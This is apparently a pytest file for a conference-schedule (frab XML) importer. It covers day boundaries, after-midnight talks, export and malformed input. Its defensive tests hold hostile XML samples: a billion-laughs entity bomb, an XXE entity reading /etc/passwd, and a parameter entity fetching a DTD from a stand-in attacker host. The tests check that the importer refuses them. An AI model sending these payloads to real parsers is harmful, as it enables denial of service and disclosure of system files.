"""frab/Pentabarf schedule.xml: a generated several-hundred-event schedule, day boundaries,
hostile XML (billion laughs, external entities) and malformed files."""

from __future__ import annotations

import datetime as dt
import hashlib
import shutil
from pathlib import Path
from xml.sax.saxutils import escape, quoteattr

import pytest

from expo_tui.ingest.common import ExpoTarget
from expo_tui.ingest.errors import IngestError
from expo_tui.ingest.frab_format import read_frab
from expo_tui.store import open_store

from ..conftest import SHIPPED_DB

ROOMS = ("Saal 1", "Saal G", "Saal Zuse", "Eliza", "Ada", "Chaos-West Bühne")


def schedule_xml(
    days: int = 4,
    rooms: int = 6,
    talks: int = 20,
    *,
    after_midnight: int = 2,
    acronym: str = "38c3",
    start: dt.date = dt.date(2024, 12, 27),
    zone: str = "Europe/Berlin",
    day_bounds: bool = True,
) -> str:
    """A realistic frab schedule: `days` days x `rooms` rooms x `talks` talks, each room's
    programme running from 10:30 in 40-minute slots, plus `after_midnight` late talks per
    room per day at 00:30, 01:10... after the day's date (still inside that day, which ends
    at 04:00 the next morning)."""
    out = [
        '<?xml version="1.0" encoding="utf-8"?>',
        "<schedule>",
        '  <generator name="pretalx" version="2024.3.0"/>',
        "  <version>1.7 Tuttifrutti</version>",
        "  <conference>",
        f"    <acronym>{acronym}</acronym>",
        "    <title>38th Chaos Communication Congress</title>",
        f"    <start>{start.isoformat()}</start>",
        f"    <end>{(start + dt.timedelta(days=days - 1)).isoformat()}</end>",
        f"    <days>{days}</days>",
        "    <timeslot_duration>00:10</timeslot_duration>",
        "    <day_change>04:00</day_change>" if not day_bounds else "",
        f"    <time_zone_name>{zone}</time_zone_name>",
        "    <base_url>https://fahrplan.events.ccc.de/congress/2024/fahrplan/</base_url>",
        "  </conference>",
    ]
    event_id = 1000
    for d in range(days):
        date = start + dt.timedelta(days=d)
        nxt = date + dt.timedelta(days=1)
        bounds = f' start="{date}T10:00:00+01:00" end="{nxt}T04:00:00+01:00"' if day_bounds else ""
        out.append(f'  <day index="{d + 1}" date="{date}"{bounds}>')
        for r in range(rooms):
            room = ROOMS[r % len(ROOMS)]
            out.append(f'    <room name={quoteattr(room)} guid="room-{r}">')
            slots = [
                dt.datetime.combine(date, dt.time(10, 30)) + dt.timedelta(minutes=40 * i)
                for i in range(talks)
            ]
            slots += [
                dt.datetime.combine(nxt, dt.time(0, 30)) + dt.timedelta(minutes=40 * i)
                for i in range(after_midnight)
            ]
            for i, at in enumerate(slots):
                event_id += 1
                speaker = f"Speaker {event_id % 97}"
                out += [
                    f'      <event guid="00000000-0000-4000-8000-{event_id:012d}" id="{event_id}">',
                    f"        <date>{at.isoformat()}+01:00</date>",
                    f"        <start>{at:%H:%M}</start>",
                    "        <duration>00:40</duration>",
                    f"        <room>{escape(room)}</room>",
                    f"        <slug>{acronym}-{event_id}-talk</slug>",
                    f"        <url>https://fahrplan.example.org/talk/{event_id}/</url>",
                    f"        <title>Talk {event_id}: Fish &amp; Chips, &lt;b&gt; and ümlauts</title>",
                    "        <subtitle/>",
                    "        <track>Hardware &amp; Making</track>",
                    "        <type>Talk</type>",
                    "        <language>en</language>",
                    f"        <abstract>Abstract of talk {event_id}.</abstract>",
                    "        <description/>",
                    "        <persons>",
                    f'          <person id="{event_id % 97}">{speaker}</person>',
                    f'          <person id="{500 + i}">Co-speaker {i}</person>'
                    if i % 3 == 0
                    else "",
                    "        </persons>",
                    "        <links>",
                    f'          <link href="https://media.example.org/v/{event_id}">Video</link>',
                    "        </links>",
                    "        <attachments/>",
                    "      </event>",
                ]
            out.append("    </room>")
        out.append("  </day>")
    out.append("</schedule>")
    return "\n".join(line for line in out if line)


@pytest.fixture
def store_copy(tmp_path: Path) -> Path:
    target = tmp_path / "expo.db"
    shutil.copyfile(SHIPPED_DB, target)
    return target


def write(tmp_path: Path, text: str | bytes, name: str = "schedule.xml") -> Path:
    path = tmp_path / name
    path.write_bytes(text.encode("utf-8") if isinstance(text, str) else text)
    return path


def test_generated_schedule_imports_every_event_on_its_schedule_day(
    tmp_path: Path, store_copy: Path
) -> None:
    path = write(tmp_path, schedule_xml())
    bundle = read_frab(path, ExpoTarget())
    assert len(bundle.events) == 4 * 6 * 22 == 528
    assert bundle.expo.slug == "38c3" and bundle.expo.timezone == "Europe/Berlin"
    assert (bundle.expo.start_date, bundle.expo.end_date) == (
        dt.date(2024, 12, 27),
        dt.date(2024, 12, 30),
    )
    store = open_store(store_copy)
    try:
        report = store.write_bundle(bundle)
        assert report.added["events"] == 528
        expo = store.expo("38c3")
        assert expo is not None
        days = {d.key: d.events for d in store.days(expo)}
        assert days == {"2024-12-27": 132, "2024-12-28": 132, "2024-12-29": 132, "2024-12-30": 132}
        again = store.write_bundle(read_frab(path, ExpoTarget()))
        assert again.added["events"] == 0 and again.changed["events"] == 0
        assert store.expo("indodefence2025") is not None  # the shipped expo is untouched
    finally:
        store.close()


def test_after_midnight_talk_belongs_to_the_day_that_lists_it(tmp_path: Path) -> None:
    bundle = read_frab(write(tmp_path, schedule_xml(days=2, rooms=1, talks=2)), ExpoTarget())
    late = [e for e in bundle.events if e.start_time and e.start_time < dt.time(4, 0)]
    assert late and all(e.date == dt.date(2024, 12, 27) for e in late[:2])
    assert late[0].start_time == dt.time(0, 30) and late[0].end_time == dt.time(1, 10)
    assert all(e.date == dt.date(2024, 12, 28) for e in late[2:])


def test_day_change_instead_of_day_bounds_gives_the_same_days(tmp_path: Path) -> None:
    bundle = read_frab(
        write(tmp_path, schedule_xml(days=2, rooms=1, talks=2, day_bounds=False)), ExpoTarget()
    )
    assert [e.date for e in bundle.events] == [dt.date(2024, 12, 27)] * 4 + [
        dt.date(2024, 12, 28)
    ] * 4


def test_late_evening_talk_that_runs_past_midnight_keeps_its_day(tmp_path: Path) -> None:
    text = (
        schedule_xml(days=1, rooms=1, talks=1, after_midnight=0)
        .replace("<start>10:30</start>", "<start>23:40</start>")
        .replace("<duration>00:40</duration>", "<duration>01:00</duration>")
    )
    (event,) = read_frab(write(tmp_path, text), ExpoTarget()).events
    assert (event.date, event.start_time, event.end_time) == (
        dt.date(2024, 12, 27),
        dt.time(23, 40),
        dt.time(0, 40),
    )


def test_after_midnight_talk_sorts_last_within_its_day(tmp_path: Path) -> None:
    store = open_store(None)
    try:
        store.write_bundle(
            read_frab(write(tmp_path, schedule_xml(days=1, rooms=1, talks=2)), ExpoTarget())
        )
        expo = store.expo("38c3")
        times = [e.start_time for e in store.events(expo, "2024-12-27").items]
        assert times == [dt.time(10, 30), dt.time(11, 10), dt.time(0, 30), dt.time(1, 10)]
    finally:
        store.close()


def test_persons_are_speakers_and_links_are_sources(tmp_path: Path) -> None:
    bundle = read_frab(
        write(tmp_path, schedule_xml(days=1, rooms=1, talks=1, after_midnight=0)), ExpoTarget()
    )
    (event,) = bundle.events
    assert event.kind == "forum_session" and event.status == "planned"
    assert event.location == "Saal 1"
    assert event.title == "Talk 1001: Fish & Chips, <b> and ümlauts"
    assert {p.role for p in event.participants} == {"speaker"}
    assert event.sources == (
        "https://fahrplan.example.org/talk/1001/",
        "https://media.example.org/v/1001",
    )
    assert event.key == "00000000-0000-4000-8000-000000001001"
    assert event.track == "Hardware & Making"
    assert "Track" not in (event.notes or "")  # kept as the track, not repeated in the notes


def test_expo_flag_renames_the_conference(tmp_path: Path) -> None:
    bundle = read_frab(
        write(tmp_path, schedule_xml(days=1, rooms=1, talks=1)), ExpoTarget(slug="congress")
    )
    assert bundle.expo.slug == "congress"


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<schedule><conference><title>&lol9;</title></conference></schedule>"""

XXE = """<?xml version="1.0"?>
<!DOCTYPE schedule [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<schedule><conference><title>&secret;</title></conference></schedule>"""

XXE_PARAMETER = """<?xml version="1.0"?>
<!DOCTYPE schedule [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<schedule/>"""


@pytest.mark.parametrize(
    "text, expected",
    [
        (BILLION_LAUGHS, "entity"),
        (XXE, "entit"),
        (XXE_PARAMETER, "entit"),
    ],
)
def test_entity_expansion_and_external_entities_are_refused(
    tmp_path: Path, text: str, expected: str
) -> None:
    with pytest.raises(IngestError) as caught:
        read_frab(write(tmp_path, text), ExpoTarget())
    assert expected in str(caught.value) and "schedule.xml" in str(caught.value)
    assert "root:" not in str(caught.value)


def _event_xml(body: str) -> str:
    return f"""<schedule><conference><acronym>x</acronym><title>X</title>
<start>2025-01-01</start><end>2025-01-02</end></conference>
<day index="1" date="2025-01-01"><room name="A"><event guid="g1" id="1">{body}</event></room></day>
</schedule>"""


@pytest.mark.parametrize(
    "text, where",
    [
        ("", "empty"),
        ("\x00\x01\x02binary\xff", "not well-formed"),
        (schedule_xml(days=1, rooms=1, talks=3)[:-200], "line"),
        ("<schedule><conference><title>T</title></conference></schedule>", "no events"),
        ("<calendar/>", "<schedule>"),
        (_event_xml("<title>T</title><start>25:00</start>"), "field 'start'"),
        (
            _event_xml("<title>T</title><start>10:00</start><duration>forever</duration>"),
            "field 'duration'",
        ),
        (_event_xml("<start>10:00</start>"), "field 'title'"),
        (
            _event_xml("<title>T</title>").replace('date="2025-01-01"', 'date="2025-06-31"'),
            "field 'date'",
        ),
        (
            _event_xml("<title>T</title>").replace(
                "<title>X</title>", "<title>X</title><time_zone_name>Mars/Olympus</time_zone_name>"
            ),
            "time_zone_name",
        ),
        (_event_xml("<title>" + "A" * 200_000 + "</title>"), "over 100,000"),
        ("<schedule>" + "<x>" * 100_000 + "</x>" * 100_000 + "</schedule>", ""),
    ],
)
def test_malformed_schedules_are_refused_with_a_located_error(
    tmp_path: Path, text: str, where: str
) -> None:
    with pytest.raises(IngestError) as caught:
        read_frab(
            write(
                tmp_path, text.encode("utf-8", "surrogateescape") if isinstance(text, str) else text
            ),
            ExpoTarget(),
        )
    assert where in str(caught.value)
    assert str(caught.value).startswith(str(tmp_path / "schedule.xml"))


def test_utf16_schedule_with_declaration_is_read(tmp_path: Path) -> None:
    text = schedule_xml(days=1, rooms=1, talks=1, after_midnight=0).replace(
        'encoding="utf-8"', 'encoding="utf-16"'
    )
    bundle = read_frab(write(tmp_path, text.encode("utf-16")), ExpoTarget())
    assert len(bundle.events) == 1


def test_a_failed_frab_import_leaves_the_database_byte_identical(
    tmp_path: Path, store_copy: Path
) -> None:
    before = hashlib.sha256(store_copy.read_bytes()).hexdigest()
    text = schedule_xml(days=2, rooms=2, talks=10)
    broken = text.replace("<start>01:10</start>", "<start>31:10</start>")
    path = write(tmp_path, broken)
    store = open_store(store_copy)
    try:
        with pytest.raises(IngestError):
            store.write_bundle(read_frab(path, ExpoTarget()))
    finally:
        store.close()
    assert hashlib.sha256(store_copy.read_bytes()).hexdigest() == before


@pytest.mark.parametrize("day_bounds", [True, False])
def test_schedule_day_change_is_kept_on_the_expo(tmp_path: Path, day_bounds: bool) -> None:
    bundle = read_frab(
        write(tmp_path, schedule_xml(days=1, rooms=1, talks=1, day_bounds=day_bounds)), ExpoTarget()
    )
    assert bundle.expo.day_change == dt.time(4, 0)


def test_after_midnight_talk_exports_on_the_next_calendar_date(tmp_path: Path) -> None:
    import icalendar

    from expo_tui.export.collect import Selection
    from expo_tui.export.ics import calendar as build_calendar

    store = open_store(None)
    try:
        store.write_bundle(
            read_frab(write(tmp_path, schedule_xml(days=1, rooms=1, talks=2)), ExpoTarget())
        )
        expo = store.expo("38c3")
        assert expo is not None and expo.day_change == dt.time(4, 0)
        exported, _ = build_calendar(store, Selection(expo=expo))
        calendar = icalendar.Calendar.from_ical(exported.to_ical())
        starts = sorted(ev.decoded("dtstart") for ev in calendar.walk("VEVENT"))
        assert [s.date() for s in starts] == [dt.date(2024, 12, 27)] * 2 + [
            dt.date(2024, 12, 28)
        ] * 2
        assert starts[-1].hour == 1 and starts[-1].minute == 10
    finally:
        store.close()


def test_meetings_table_marks_after_midnight_talks(tmp_path: Path) -> None:
    from click.testing import CliRunner

    from expo_tui import cli

    db = tmp_path / "s.db"
    store = open_store(db, create=True)
    store.write_bundle(
        read_frab(write(tmp_path, schedule_xml(days=1, rooms=1, talks=2)), ExpoTarget())
    )
    store.close()
    out = CliRunner().invoke(cli.main, ["--db", str(db), "meetings", "--expo", "38c3"]).stdout
    assert [line.split()[1] for line in out.splitlines()[1:]] == [
        "10:30-11:10",
        "11:10-11:50",
        "00:30-01:10+1",
        "01:10-01:50+1",
    ]


def _without_links(text: str) -> str:
    import re

    text = re.sub(r"\s*<url>[^<]*</url>", "", text)
    return re.sub(r"\s*<links>.*?</links>", "", text, flags=re.S)


def test_events_without_links_cite_the_schedule_base_url(tmp_path: Path) -> None:
    base = "https://fahrplan.events.ccc.de/congress/2024/fahrplan/"
    text = schedule_xml(days=1, rooms=1, talks=2, after_midnight=0)
    mixed = text.replace('<link href="https://media.example.org/v/1001">Video</link>', "")
    mixed = mixed.replace("<url>https://fahrplan.example.org/talk/1001/</url>", "")
    bundle = read_frab(write(tmp_path, mixed), ExpoTarget())
    first, second = bundle.events
    assert first.sources == (base,)  # nothing of its own: the schedule
    assert base not in second.sources  # its own page and video only
    assert [s.title for s in bundle.sources if s.url == base] == [
        "38th Chaos Communication Congress"
    ]
    bare = read_frab(
        write(tmp_path, _without_links(text).replace(f"<base_url>{base}</base_url>", "")),
        ExpoTarget(),
    )
    assert all(e.sources == () for e in bare.events) and bare.sources == ()


def test_import_source_option_cites_where_the_file_was_published(
    tmp_path: Path, store_copy: Path
) -> None:
    from click.testing import CliRunner

    from expo_tui import cli

    base = "https://fahrplan.events.ccc.de/congress/2024/fahrplan/"
    text = _without_links(schedule_xml(days=1, rooms=1, talks=2, after_midnight=0))
    path = write(tmp_path, text.replace(f"<base_url>{base}</base_url>", ""))
    published = "https://example.org/38c3/schedule.xml"

    def run(*args: str):  # type: ignore[no-untyped-def]
        return CliRunner().invoke(cli.main, ["import", "--db", str(store_copy), *args, str(path)])

    def unsourced() -> list[str]:
        store = open_store(store_copy, readonly=True)
        try:
            return [p.message for p in store.check() if p.check == "sources"]
        finally:
            store.close()

    refused = run("--source", "ftp://example.org/schedule.xml")
    assert refused.exit_code == 2 and "--source" in refused.output
    assert run("--dry-run").exit_code == 0 and unsourced() == []  # the shipped data is sound
    assert run("--source", published).exit_code == 0
    store = open_store(store_copy, readonly=True)
    try:
        expo = store.expo("38c3")
        assert expo is not None
        details = store.event_details(e.id for e in store.events(expo, None, limit=50).items)
        assert len(details) == 2
        assert all([s.url for s in d.sources] == [published] for d in details)
    finally:
        store.close()
    assert unsourced() == []
    # without --source the same file's events would cite nothing
    other = tmp_path / "other.db"
    shutil.copyfile(SHIPPED_DB, other)
    assert CliRunner().invoke(cli.main, ["import", "--db", str(other), str(path)]).exit_code == 0
    store = open_store(other, readonly=True)
    try:
        assert any("cites no source" in p.message for p in store.check())
    finally:
        store.close()


def test_cite_where_missing_fills_only_records_that_cite_nothing() -> None:
    import dataclasses

    from expo_tui.ingest.common import cite_where_missing
    from expo_tui.records import DelegationRecord, ExhibitorRecord, FigureRecord, SourceRecord

    from ..conftest import tiny_bundle

    page = SourceRecord(url="https://example.org/programme")
    bundle = dataclasses.replace(
        tiny_bundle(),
        delegations=(DelegationRecord(country="CAN"),),
        exhibitors=(ExhibitorRecord(name="Maker", sources=("https://example.org/report",)),),
        figures=(FigureRecord(key="visitors", metric="visitors", value="10"),),
    )
    cited = cite_where_missing(bundle, page)
    assert cited.events == bundle.events  # Ana's meeting cites its report
    assert cited.delegations[0].sources == (page.url,)
    assert cited.exhibitors == bundle.exhibitors
    assert cited.figures[0].sources == (page.url,)
    assert cited.sources == (*bundle.sources, page)
    assert cite_where_missing(cited, page) == cited  # once only
    untouched = cite_where_missing(dataclasses.replace(bundle, delegations=(), figures=()), page)
    assert page not in untouched.sources  # cited by nothing: not added
